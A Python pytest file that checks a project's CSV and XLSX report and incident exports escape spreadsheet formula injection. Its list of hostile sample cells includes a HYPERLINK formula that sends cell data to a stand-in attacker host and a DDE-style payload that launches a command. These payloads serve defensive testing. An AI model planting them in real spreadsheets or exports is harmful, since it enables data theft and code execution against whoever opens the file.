"""CSV and XLSX exports never hand a spreadsheet a formula from the data (formula injection):
a customer's comment or a seller's name starting with = + - @ stays text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from cxm.incidents import exports
from cxm.reports.formats import safe_cell, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]
REPORT = {"report": "sellers", "rows": [{"seller": h, "revenue": -1500.5} for h in HOSTILE]}


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_is_made_plain_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.5", "+7", "Иванова", "", "—", -3, None])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_the_report_csv_escapes_every_hostile_cell():
    rows = list(csv.DictReader(io.StringIO(to_csv(REPORT))))
    assert [r["seller"] for r in rows] == ["'" + h for h in HOSTILE]
    assert rows[0]["revenue"] == "-1500.5"


def test_the_report_xlsx_holds_text_not_formulas():
    sheet = load_workbook(io.BytesIO(to_xlsx(REPORT))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert cells == ["'" + h for h in HOSTILE]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_incident_exports_escape_rows_and_filters():
    rows = [{"comment": HOSTILE[0]}]
    text = exports.to_csv(rows, {"store": "=1+1"})
    assert '"=HYPERLINK' not in text and "\n=" not in text and ",=" not in text
    book = load_workbook(io.BytesIO(exports.to_xlsx("incidents", rows, {"store": "=1+1"})))
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
